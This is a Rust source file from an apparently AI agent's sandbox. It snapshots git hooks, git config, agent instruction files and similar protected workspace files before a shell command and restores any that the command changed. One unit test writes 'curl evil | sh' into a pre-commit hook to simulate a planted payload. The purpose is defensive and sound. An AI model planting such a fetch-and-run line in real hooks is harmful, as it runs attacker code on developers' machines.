//! Protected files inside the writable workspace, kept as they were
//! across a sandboxed `shell` command (DESIGN §19 "The shell").
//!
//! Landlock cannot make a subtree read-only beneath a writable directory
//! (its rights are inherited), and git must create files directly in
//! `.git/`. So the supervisor takes a [`Snapshot`] of the files that change
//! what strata or git will run or read next — git's hooks (`.git/hooks/`
//! and wherever `core.hooksPath` points) and `.git/config`, `.mcp.json`,
//! the instruction files the prompt builder reads at the root
//! ([`crate::prompt::INSTRUCTION_FILE_NAMES`], `.cursor/rules/`), `.strata/`
//! and, in a linked worktree, the `.git` file — before the command, and
//! [`Snapshot::restore`]s any that changed, appeared or went away after it.
//!
//! Bounded: at most [`MAX_ENTRIES`] entries are followed in the protected
//! directories, and a file over [`MAX_KEPT_BYTES`] is kept as a hash only
//! (a change to it is reported, not undone). Symbolic links are never
//! followed: a link is restored as a link.
//!
//! Only the supervisor calls this, in its own process, with the
//! workspace's write rights.

use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

/// Entries followed beneath the protected directories, at most.
pub const MAX_ENTRIES: usize = 4096;

/// A protected file larger than this is kept as its hash only.
pub const MAX_KEPT_BYTES: u64 = 4 * 1024 * 1024;

/// How deep the protected directories are followed.
const MAX_DEPTH: usize = 8;

/// What became of a protected file during the command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Why {
    /// Its content, mode or kind changed.
    Changed,
    /// It did not exist before.
    Created,
    /// It existed before and was gone.
    Removed,
}

impl Why {
    /// `changed`, `created`, `removed`.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Changed => "changed",
            Self::Created => "created",
            Self::Removed => "removed",
        }
    }

    /// The word back to the value.
    #[must_use]
    pub fn parse(word: &str) -> Option<Self> {
        [Self::Changed, Self::Created, Self::Removed]
            .into_iter()
            .find(|w| w.as_str() == word)
    }
}

/// One protected file put back.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Restored {
    /// The file.
    pub path: PathBuf,
    /// What the command had done to it.
    pub why: Why,
    /// Whether it is as it was again (false: too large to keep, or the
    /// write failed).
    pub undone: bool,
}

/// A protected path as it was.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Entry {
    Missing,
    File { bytes: Vec<u8>, mode: u32 },
    Large { sha256: [u8; 32], mode: u32 },
    Link(PathBuf),
    Dir,
}

/// The protected files of a workspace as they were before a command.
#[derive(Debug, Default)]
pub struct Snapshot {
    entries: BTreeMap<PathBuf, Entry>,
    /// Directories whose new entries are removed after the command.
    trees: Vec<PathBuf>,
    /// Where each protected file and tree was, links resolved, when the
    /// snapshot was taken: a restore writes or removes only where a path
    /// still leads there (a command may have turned `.git` into a link to
    /// somewhere else).
    places: BTreeMap<PathBuf, PathBuf>,
}

/// The protected files and directories of the workspace at `root`.
#[must_use]
pub fn protected(root: &Path) -> (Vec<PathBuf>, Vec<PathBuf>) {
    let mut files: Vec<PathBuf> = crate::prompt::INSTRUCTION_FILE_NAMES
        .iter()
        .map(|name| root.join(name))
        .collect();
    files.push(root.join(".mcp.json"));
    let mut trees = vec![
        root.join(".strata"),
        root.join(crate::prompt::INSTRUCTION_RULES_DIR),
    ];
    let dot_git = root.join(".git");
    let common = match fs::symlink_metadata(&dot_git) {
        Ok(meta) if meta.is_file() => {
            files.push(dot_git.clone());
            super::sandbox::linked_worktree(root)
                .map(|(common, admin)| {
                    // What git reads of the worktree's own directory.
                    files.extend(["config.worktree", "commondir", "gitdir"].map(|f| admin.join(f)));
                    common
                })
                .or_else(|| git_dir_inside(root, &dot_git))
        }
        Ok(meta) if meta.is_dir() => Some(dot_git),
        Ok(meta) if meta.is_symlink() => {
            // A repository moved and linked back: what git uses is the
            // directory the link leads to, when it is in the workspace.
            files.push(dot_git.clone());
            git_dir_inside(root, &dot_git)
        }
        _ => None,
    };
    // A relative `core.hooksPath` of the user's own git config is the
    // workspace's too.
    let user_configs = [
        dirs::home_dir().map(|h| h.join(".gitconfig")),
        dirs::config_dir().map(|c| c.join("git/config")),
    ];
    for config in user_configs.into_iter().flatten() {
        if let Some(hooks) = hooks_path(&config).filter(|h| h.is_relative()) {
            trees.push(root.join(hooks));
        }
    }
    if let Some(git) = common {
        for dir in std::iter::once(git.clone()).chain(submodule_dirs(&git)) {
            protect_git_dir(root, &dir, &mut files, &mut trees);
        }
    }
    (files, trees)
}

/// The git directory a `.git` link or `gitdir:` file at `dot_git` leads
/// to, when it is a directory in the workspace at `root` (a command may
/// have moved the repository there: its hooks and config run later all
/// the same).
fn git_dir_inside(root: &Path, dot_git: &Path) -> Option<PathBuf> {
    let target = if fs::symlink_metadata(dot_git).is_ok_and(|m| m.is_symlink()) {
        dot_git.to_path_buf()
    } else {
        let text = fs::read_to_string(dot_git).ok()?;
        root.join(text.lines().find_map(|l| l.strip_prefix("gitdir:"))?.trim())
    };
    let dir = fs::canonicalize(target).ok()?;
    let root = fs::canonicalize(root).ok()?;
    (dir.is_dir() && dir.starts_with(&root) && dir != root).then_some(dir)
}

/// What git reads of the git directory `git` that could run code or
/// point it elsewhere: its config (and the files it includes that lie in
/// the workspace at `root`), `config.worktree`, `commondir`, its hooks
/// (and where `core.hooksPath` points).
fn protect_git_dir(root: &Path, git: &Path, files: &mut Vec<PathBuf>, trees: &mut Vec<PathBuf>) {
    let config = git.join("config");
    if let Some(hooks) = hooks_path(&config) {
        trees.push(if hooks.is_absolute() {
            hooks
        } else {
            root.join(hooks)
        });
    }
    // Included files may include more (depth-bounded, each once).
    let mut pending: Vec<(PathBuf, usize)> = included_paths(&config)
        .into_iter()
        .map(|p| (if p.is_absolute() { p } else { git.join(p) }, 1))
        .collect();
    let mut seen = std::collections::BTreeSet::new();
    while let Some((path, depth)) = pending.pop() {
        if !seen.insert(path.clone()) {
            continue;
        }
        if depth < MAX_INCLUDE_DEPTH
            && let Some(dir) = path.parent()
        {
            pending.extend(
                included_paths(&path)
                    .into_iter()
                    .map(|p| (if p.is_absolute() { p } else { dir.join(p) }, depth + 1)),
            );
        }
        let (Some(dir), Some(name)) = (path.parent(), path.file_name()) else {
            continue;
        };
        if let (Ok(dir), Ok(root)) = (fs::canonicalize(dir), fs::canonicalize(root))
            && dir.starts_with(&root)
        {
            // Named as the workspace names it, not through `.git/..`.
            let shown = root.join(dir.strip_prefix(&root).unwrap_or(&dir)).join(name);
            files.push(shown);
        }
    }
    files.push(config);
    files.extend(["config.worktree", "commondir"].map(|f| git.join(f)));
    trees.push(git.join("hooks"));
}

/// How deep included git config files are followed.
const MAX_INCLUDE_DEPTH: usize = 5;

/// The most submodule git directories looked at: a bound on the work
/// before each command.
const MAX_SUBMODULES: usize = 64;

/// The git directories of the submodules under `git/modules` (nested
/// ones too, a submodule's name may hold `/`), at most
/// [`MAX_SUBMODULES`].
fn submodule_dirs(git: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![git.join("modules")];
    while let Some(dir) = pending.pop() {
        let Ok(entries) = fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if !entry.file_type().is_ok_and(|t| t.is_dir()) {
                continue;
            }
            if path.join("HEAD").is_file() {
                pending.push(path.join("modules"));
                found.push(path);
            } else {
                pending.push(path);
            }
            if found.len() >= MAX_SUBMODULES {
                return found;
            }
        }
    }
    found
}

/// The `path` values of `[include]` and `[includeIf …]` sections of the
/// git config file `config` (`~/` expanded).
fn included_paths(config: &Path) -> Vec<PathBuf> {
    let Ok(text) = fs::read_to_string(config) else {
        return Vec::new();
    };
    let mut in_include = false;
    let mut found = Vec::new();
    for line in text.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            let section = line.trim_start_matches('[').trim_start().to_ascii_lowercase();
            in_include = section.starts_with("include]") || section.starts_with("includeif");
            continue;
        }
        if in_include
            && let Some((key, value)) = line.split_once('=')
            && key.trim().eq_ignore_ascii_case("path")
        {
            let value = value.trim().trim_matches('"');
            found.push(match value.strip_prefix("~/") {
                Some(rest) => dirs::home_dir().map_or_else(|| PathBuf::from(value), |h| h.join(rest)),
                None => PathBuf::from(value),
            });
        }
    }
    found
}

/// `core.hooksPath` in a git config file, when set (`~/` expanded).
fn hooks_path(config: &Path) -> Option<PathBuf> {
    let text = fs::read_to_string(config).ok()?;
    let mut in_core = false;
    let mut found = None;
    for line in text.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            in_core = line
                .trim_start_matches('[')
                .trim_end_matches(']')
                .trim()
                .eq_ignore_ascii_case("core");
            continue;
        }
        if !in_core {
            continue;
        }
        if let Some((key, value)) = line.split_once('=')
            && key.trim().eq_ignore_ascii_case("hookspath")
        {
            let value = value.trim().trim_matches('"');
            found = Some(match value.strip_prefix("~/") {
                Some(rest) => dirs::home_dir().map_or_else(|| PathBuf::from(value), |h| h.join(rest)),
                None => PathBuf::from(value),
            });
        }
    }
    found
}

impl Snapshot {
    /// The protected files of the workspace at `root` as they are now.
    #[must_use]
    pub fn take(root: &Path) -> Self {
        let (files, trees) = protected(root);
        let mut snapshot = Self::default();
        for path in files.iter().chain(&trees) {
            snapshot.places.insert(path.clone(), located(path));
        }
        for file in files {
            let entry = read(&file);
            snapshot.entries.insert(file, entry);
        }
        for tree in &trees {
            for (path, entry) in walk(tree) {
                snapshot.entries.insert(path, entry);
            }
        }
        snapshot.trees = trees;
        snapshot
    }

    /// How many paths it holds.
    #[must_use]
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether it holds nothing.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Puts back every protected path that differs from the snapshot, and
    /// removes what appeared in the protected directories; returns what it
    /// did, in path order.
    #[must_use]
    pub fn restore(&self) -> Vec<Restored> {
        let mut restored = Vec::new();
        let mut now: BTreeMap<PathBuf, Entry> = BTreeMap::new();
        for tree in &self.trees {
            now.extend(walk(tree));
        }
        // New entries first, parents before children: a removed directory
        // takes what is below it.
        let mut gone: Vec<PathBuf> = Vec::new();
        for (path, entry) in &now {
            let was_there = self.entries.get(path).is_some_and(|e| *e != Entry::Missing);
            if was_there || *entry == Entry::Missing {
                continue;
            }
            if gone.iter().any(|g| path.starts_with(g)) {
                continue;
            }
            let undone = self.still_in_place(path) && remove(path);
            gone.push(path.clone());
            restored.push(Restored {
                path: path.clone(),
                why: Why::Created,
                undone,
            });
        }
        for (path, was) in &self.entries {
            if gone.iter().any(|g| path.starts_with(g)) {
                continue;
            }
            let is = now.remove(path).unwrap_or_else(|| read(path));
            if same(was, &is) {
                continue;
            }
            let why = match (was, &is) {
                (Entry::Missing, _) => Why::Created,
                (_, Entry::Missing) => Why::Removed,
                _ => Why::Changed,
            };
            let undone = self.still_in_place(path) && put_back(path, was, &is);
            restored.push(Restored {
                path: path.clone(),
                why,
                undone,
            });
        }
        restored.sort_by(|a, b| a.path.cmp(&b.path));
        restored
    }
}

impl Snapshot {
    /// Whether `path` still leads where it did when the snapshot was
    /// taken: its directory, links resolved, is the one recorded for it
    /// (or for the protected tree it is in, plus the rest of the path).
    fn still_in_place(&self, path: &Path) -> bool {
        let Some((known, recorded)) = self
            .places
            .iter()
            .filter(|(p, _)| path.starts_with(p))
            .max_by_key(|(p, _)| p.components().count())
        else {
            return false;
        };
        let Ok(rest) = path.strip_prefix(known) else {
            return false;
        };
        located(path) == recorded.join(rest)
    }
}

/// Where `path` is with the links on the way to it resolved (not a link
/// at `path` itself: that one is what a restore replaces).
fn located(path: &Path) -> PathBuf {
    match (path.parent(), path.file_name()) {
        (Some(parent), Some(name)) => place(parent).join(name),
        _ => path.to_path_buf(),
    }
}

/// Where `path` is with every link on its way resolved: the nearest
/// existing ancestor made canonical, and the rest of the path after it.
fn place(path: &Path) -> PathBuf {
    let mut existing = path;
    let mut rest: Vec<&std::ffi::OsStr> = Vec::new();
    loop {
        if fs::symlink_metadata(existing).is_ok()
            && let Ok(canonical) = fs::canonicalize(existing)
        {
            return rest.iter().rev().fold(canonical, |p, c| p.join(c));
        }
        match (existing.parent(), existing.file_name()) {
            (Some(parent), Some(name)) => {
                rest.push(name);
                existing = parent;
            }
            _ => return path.to_path_buf(),
        }
    }
}

fn same(was: &Entry, is: &Entry) -> bool {
    match (was, is) {
        (Entry::Large { sha256, mode }, Entry::File { bytes, mode: m }) => {
            mode == m && Sha256::digest(bytes).as_slice() == sha256
        }
        _ => was == is,
    }
}

/// The entry at `path`, not following a link.
fn read(path: &Path) -> Entry {
    let Ok(meta) = fs::symlink_metadata(path) else {
        return Entry::Missing;
    };
    let kind = meta.file_type();
    if kind.is_symlink() {
        return fs::read_link(path).map_or(Entry::Missing, Entry::Link);
    }
    if kind.is_dir() {
        return Entry::Dir;
    }
    let mode = meta.permissions().mode() & 0o7777;
    if meta.len() > MAX_KEPT_BYTES {
        let Ok(mut file) = fs::File::open(path) else {
            return Entry::Missing;
        };
        let mut hasher = Sha256::new();
        if std::io::copy(&mut file, &mut hasher).is_err() {
            return Entry::Missing;
        }
        return Entry::Large {
            sha256: hasher.finalize().into(),
            mode,
        };
    }
    fs::read(path).map_or(Entry::Missing, |bytes| Entry::File { bytes, mode })
}

/// `tree` and what is beneath it (bounded), never through a link.
fn walk(tree: &Path) -> Vec<(PathBuf, Entry)> {
    let mut found = vec![(tree.to_path_buf(), read(tree))];
    let mut dirs = vec![(tree.to_path_buf(), 0)];
    if found[0].1 != Entry::Dir {
        return found;
    }
    while let Some((dir, depth)) = dirs.pop() {
        let Ok(entries) = fs::read_dir(&dir) else {
            continue;
        };
        let mut names: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
        names.sort();
        for path in names {
            if found.len() >= MAX_ENTRIES {
                return found;
            }
            let entry = read(&path);
            if entry == Entry::Dir && depth + 1 < MAX_DEPTH {
                dirs.push((path.clone(), depth + 1));
            }
            found.push((path, entry));
        }
    }
    found
}

/// Removes whatever is at `path`; `true` when nothing is left.
fn remove(path: &Path) -> bool {
    match fs::symlink_metadata(path) {
        Ok(meta) if meta.is_dir() => fs::remove_dir_all(path).is_ok(),
        Ok(_) => fs::remove_file(path).is_ok(),
        Err(_) => true,
    }
}

/// Makes `path` what it `was` (it `is` something else now).
fn put_back(path: &Path, was: &Entry, is: &Entry) -> bool {
    let in_place = matches!((was, is), (Entry::File { .. }, Entry::File { .. }));
    if !in_place && *is != Entry::Missing && !remove(path) {
        return false;
    }
    if let Some(parent) = path.parent()
        && fs::create_dir_all(parent).is_err()
    {
        return false;
    }
    match was {
        Entry::Missing => true,
        Entry::Dir => fs::create_dir(path).is_ok(),
        Entry::Link(target) => symlink(target, path).is_ok(),
        Entry::File { bytes, mode } => {
            fs::write(path, bytes).is_ok()
                && fs::set_permissions(path, fs::Permissions::from_mode(*mode)).is_ok()
        }
        Entry::Large { .. } => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn workspace() -> PathBuf {
        let n = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos();
        let root = std::env::temp_dir().join(format!("strata-protect-{}-{n}", std::process::id()));
        fs::create_dir_all(root.join(".git/hooks")).unwrap();
        fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
        fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        fs::write(root.join("AGENTS.md"), "Rules.\n").unwrap();
        root
    }

    #[test]
    fn changed_created_and_removed_files_are_put_back() {
        let root = workspace();
        let snapshot = Snapshot::take(&root);
        fs::write(root.join(".git/hooks/pre-commit"), "curl evil | sh\n").unwrap();
        fs::write(root.join(".git/hooks/post-checkout"), "x").unwrap();
        fs::remove_file(root.join("AGENTS.md")).unwrap();
        fs::write(root.join(".mcp.json"), "{}").unwrap();
        fs::create_dir_all(root.join(".strata/x")).unwrap();
        fs::write(root.join("src.rs"), "not protected").unwrap();
        let restored = snapshot.restore();
        let said: Vec<(String, Why)> = restored
            .iter()
            .map(|r| (r.path.strip_prefix(&root).unwrap().display().to_string(), r.why))
            .collect();
        assert_eq!(
            said,
            [
                (".git/hooks/post-checkout".to_owned(), Why::Created),
                (".git/hooks/pre-commit".to_owned(), Why::Changed),
                (".mcp.json".to_owned(), Why::Created),
                (".strata".to_owned(), Why::Created),
                ("AGENTS.md".to_owned(), Why::Removed),
            ]
        );
        assert!(restored.iter().all(|r| r.undone));
        assert_eq!(
            fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        assert!(!root.join(".git/hooks/post-checkout").exists());
        assert!(!root.join(".mcp.json").exists() && !root.join(".strata").exists());
        assert_eq!(fs::read_to_string(root.join("AGENTS.md")).unwrap(), "Rules.\n");
        assert!(root.join("src.rs").exists());
        assert!(snapshot.restore().is_empty(), "nothing left to restore");
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn a_hooks_path_and_a_link_in_place_of_a_hook_are_handled() {
        let root = workspace();
        fs::write(root.join(".git/config"), "[core]\n\thooksPath = .githooks\n").unwrap();
        fs::create_dir(root.join(".githooks")).unwrap();
        let snapshot = Snapshot::take(&root);
        fs::write(root.join(".githooks/pre-push"), "x").unwrap();
        fs::remove_file(root.join(".git/hooks/pre-commit")).unwrap();
        symlink("/bin/true", root.join(".git/hooks/pre-commit")).unwrap();
        let restored = snapshot.restore();
        assert_eq!(restored.len(), 2, "{restored:?}");
        assert!(
            fs::symlink_metadata(root.join(".git/hooks/pre-commit"))
                .unwrap()
                .is_file()
        );
        assert!(!root.join(".githooks/pre-push").exists());
        fs::remove_dir_all(&root).unwrap();
    }
}
